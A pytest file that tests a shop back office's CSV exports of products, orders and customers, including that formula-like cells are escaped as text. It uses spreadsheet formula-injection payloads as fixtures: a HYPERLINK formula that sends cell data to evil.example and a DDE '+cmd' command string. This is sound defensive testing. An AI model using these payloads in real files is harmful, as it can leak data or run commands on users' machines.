"""Exports from the back office: products in Shopify's format that import back unchanged,
orders by line, customers with their orders; every cell a spreadsheet would run as a formula is
written as text."""
import csv
import io

import pytest

from domain import csvcells, orders
from domain.extensions import db
from domain.models import Category, ImportProblem, Order, Product
from tests.order_helpers import NOW, place
from tests.page_helpers import text
from tests.web.test_admin_imports import job_path, run_worker, upload

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(response):
    assert response.status_code == 200, text(response)[:300]
    assert response.mimetype == "text/csv" and response.headers["Cache-Control"] == "no-store"
    body = response.get_data(as_text=True)
    assert body.startswith(csvcells.BOM)
    return list(csv.reader(io.StringIO(body[1:])))


def as_dicts(rows):
    return [dict(zip(rows[0], row)) for row in rows[1:]]


@pytest.mark.parametrize("value", [
    "=HYPERLINK(\"http://evil.example\")", "+1", "-2", "@SUM(1)", "\tx", "\rx", "'quoted",
    "''=twice", "'=already", "plain", "", "it's", "=", "'"])
def test_escaping_is_undone_exactly_on_reading(value):
    """Whatever the text, the file holds something no spreadsheet runs, and reads back as it."""
    cell = csvcells.escape(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert csvcells.unescape(cell) == value


def test_cells_that_would_run_as_formulas_are_written_as_text(app, client, setup, make, merchant):
    """A product titled =HYPERLINK(...), a customer named @SUM(1), an order sent to +cmd: each
    arrives in the spreadsheet as the text it is, quoted; no cell of any export starts a formula."""
    make.product('=HYPERLINK("http://evil.example/?d="&A1,"Details")',
                 variants=[{"sku": "-2+3", "price": 1000, "stock": 1}])
    customer = make.user(email="sum@example.com", name="@SUM(1)")
    place(app, setup, email="sum@example.com", user_id=customer["id"],
          address={"name": "+cmd|' /c calc'!A0"})
    products = as_dicts(rows_of(client.get("/admin/exports/products.csv")))
    customers = as_dicts(rows_of(client.get("/admin/exports/customers.csv")))
    order_rows = as_dicts(rows_of(client.get("/admin/exports/orders.csv")))
    assert products[1]["Title"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Details")'
    assert products[1]["Variant SKU"] == "'-2+3"
    assert [c["Name"] for c in customers] == ["'@SUM(1)"]
    assert order_rows[0]["Name"] == "'+cmd|' /c calc'!A0"
    for rows in (products, customers, order_rows):
        assert not [cell for row in rows for cell in row.values()
                    if cell.startswith(FORMULA_STARTS)]


def test_customers_are_accounts_and_guest_emails_with_their_orders(app, client, setup, make,
                                                                   merchant):
    """Guest orders under an account's email count for the account; cancelled ones do not
    count; a guest is named as on their latest order; merchants are not customers."""
    minji = make.user(email="minji@example.com", name="Kim Minji")
    place(app, setup, email="minji@example.com", user_id=minji["id"])
    place(app, setup, email="MINJI@example.com", now=NOW.replace(day=5))  # signed out, later
    place(app, setup, email="guest@example.com", address={"name": "Lee G."})
    cancelled = place(app, setup, email="guest@example.com", now=NOW.replace(day=9),
                      address={"name": "Lee Guest"})
    with app.app_context():
        orders.set_status(db.session.scalar(db.select(Order).where(Order.id == cancelled["id"])),
                          "cancelled", "system", NOW.replace(day=9))
        db.session.commit()
    make.user(email="quiet@example.com")
    customers = as_dicts(rows_of(client.get("/admin/exports/customers.csv")))
    got = [(c["Email"], c["Name"], c["Customer type"], c["Orders"], c["First order"],
            c["Last order"])
           for c in customers]
    assert got == [("minji@example.com", "Kim Minji", "account", "2", "2026-03-03", "2026-03-05"),
                   ("quiet@example.com", "", "account", "0", "", ""),
                   ("guest@example.com", "Lee Guest", "guest", "1", "2026-03-03", "2026-03-03")]


def test_orders_have_a_row_per_line_and_their_amounts_once(app, client, setup, make, merchant):
    bowl = make.product("Rice bowl", variants=[{"sku": "BOWL", "price": 12000, "stock": 5}])
    place(app, setup, items={str(setup["variant"]): 2, str(bowl["variant_ids"][0]): 1})
    rows = as_dicts(rows_of(client.get("/admin/exports/orders.csv")))
    assert [(r["SKU"], r["Quantity"], r["Unit price"], r["Line total"]) for r in rows] == [
        ("MJ-S", "2", "39000", "78000"), ("BOWL", "1", "12000", "12000")]
    assert rows[0]["Total"] == "93000" and rows[1]["Total"] == ""
    assert rows[0]["Order"] == rows[1]["Order"] and rows[1]["Email"] == "minji@example.com"
    assert rows[0]["Placed at"] == "2026-03-03 09:00"


def build_catalogue(app, make, client, post):
    """A catalogue with what the product export carries: options, a product without options,
    compare-at prices, stock, a category apart from the product type, a draft and an archived
    product, a Markdown description, two photos on a one-variant product, a repeated SKU, and
    text that reads like a formula."""
    mugs = make.category("Mugs")
    make.product("Moon mug", option1_name="Glaze", option2_name="Size", vendor="Moonjar",
                 product_type="Drinkware", tags="mug, gift", category_id=mugs["id"],
                 description_md="A **hand-thrown** mug.\n\n- 350 ml\n"
                                "- [Care](https://example.com/care)\n\n"
                                "| Size | cm |\n| --- | --- |\n| S | 8 |",
                 variants=[{"sku": "MUG", "option1": "Blue", "option2": "S", "price": 39000,
                            "compare_at_price": 45000, "stock": 12},
                           {"sku": "MUG", "option1": "White", "option2": "L", "price": 42000,
                            "stock": 0}])
    make.product('=HYPERLINK("http://evil.example","x")', status="draft",
                 variants=[{"sku": "+PLUS", "price": 5000, "stock": 3}])
    make.product("달항아리 접시", status="archived", description_md="손으로 빚은 접시",
                 variants=[{"sku": "MUG", "price": 18000, "stock": 1}])
    vase = make.product("Tall vase", variants=[{"sku": "VASE", "price": 88000, "stock": 2}])
    for colour, alt in (((20, 40, 200), "Front"), ((200, 40, 20), "=Side")):
        post(f"/admin/products/{vase['id']}/images", {
            "photo": (io.BytesIO(png_bytes(colour)), "vase.png"), "alt": alt},
            token_from=f"/admin/products/{vase['id']}/edit", content_type="multipart/form-data")


def png_bytes(colour):
    from PIL import Image
    out = io.BytesIO()
    Image.new("RGB", (400, 300), colour).save(out, "PNG")
    return out.getvalue()


def test_the_product_export_imports_back_into_an_empty_shop_unchanged(app, client, post, make,
                                                                     merchant):
    """Export, empty the catalogue, import the file from the back office, export again: the
    same file, byte for byte; the photos are the shop's own and are not downloaded again."""
    build_catalogue(app, make, client, post)
    first = client.get("/admin/exports/products.csv").get_data()
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count(Product.id))) == 4
        db.session.execute(db.delete(Product))
        db.session.execute(db.delete(Category))
        db.session.commit()
    job_path(upload(post, {"products": (first, "products.csv")}))
    run_worker(app)
    with app.app_context():
        problems = [(p.line, p.message) for p in db.session.scalars(db.select(ImportProblem))]
    assert problems == [(2, "SKU MUG is on 3 variants (lines 2, 3, 5); each is imported with it")]
    second = client.get("/admin/exports/products.csv").get_data()
    assert second == first
    rows = as_dicts(rows_of(client.get("/admin/exports/products.csv")))
    assert [r["Image Alt Text"] for r in rows if r["Image Src"]] == ["Front", "'=Side"]
    assert {r["Status"] for r in rows} >= {"active", "draft", "archived"}
